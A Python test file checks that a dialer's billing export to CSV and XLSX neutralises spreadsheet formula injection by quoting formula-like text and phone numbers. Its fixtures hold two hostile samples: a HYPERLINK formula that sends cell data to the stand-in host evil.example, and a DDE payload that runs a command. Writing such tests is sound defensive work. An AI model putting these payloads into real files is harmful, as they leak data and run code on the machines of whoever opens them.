"""The billing export opens safely in a spreadsheet: text that starts like a formula stays text
(CSV: a leading quote; XLSX: a text cell with Excel's quote prefix), phone numbers included."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest

from dialer.billing_export.layout import COLUMNS
from dialer.billing_export.period import month_span
from dialer.billing_export.service import ExportFormat
from tests.billing_export.test_export_files import CONTRACTS, export, plan_of
from tests.billing_export.world import CallSpec, at, seed

EVIL_CAMPAIGN = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
EVIL_OPERATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTRACT = next(iter(CONTRACTS))


@pytest.fixture
async def world(sessions):
    spec = CallSpec(EVIL_CAMPAIGN, at(3), timedelta(seconds=61), operator=EVIL_OPERATOR, disposition="sale")
    return await seed(
        sessions,
        {CONTRACT: CONTRACTS[CONTRACT]},
        {EVIL_CAMPAIGN: CONTRACT},
        [spec],
        operators=[EVIL_OPERATOR],
    )


async def test_the_csv_marks_formula_text_and_phones_with_a_leading_quote(sessions, world):
    data, _ = await export(sessions, await plan_of(sessions, world, month_span("2026-11")), ExportFormat.CSV)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = dict(zip(COLUMNS, rows[1], strict=True))
    assert row["campaign"] == "'" + EVIL_CAMPAIGN
    assert row["operator"] == "'" + EVIL_OPERATOR
    assert row["phone"].startswith("'+7")
    assert row["disposition"] == "sale"  # ordinary text is left alone
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)


async def test_the_xlsx_keeps_the_text_as_text_cells_with_the_quote_prefix(sessions, world, tmp_path):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    data, _ = await export(
        sessions, await plan_of(sessions, world, month_span("2026-11")), ExportFormat.XLSX, scratch=scratch
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data))[CONTRACT]
    column = {name: i + 1 for i, name in enumerate(COLUMNS)}
    for name, expected in (("campaign", EVIL_CAMPAIGN), ("operator", EVIL_OPERATOR)):
        cell = sheet.cell(row=2, column=column[name])
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    phone = sheet.cell(row=2, column=column["phone"])
    assert phone.value.startswith("+7") and phone.data_type == "s" and phone.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml for xml in sheets)  # no formula anywhere
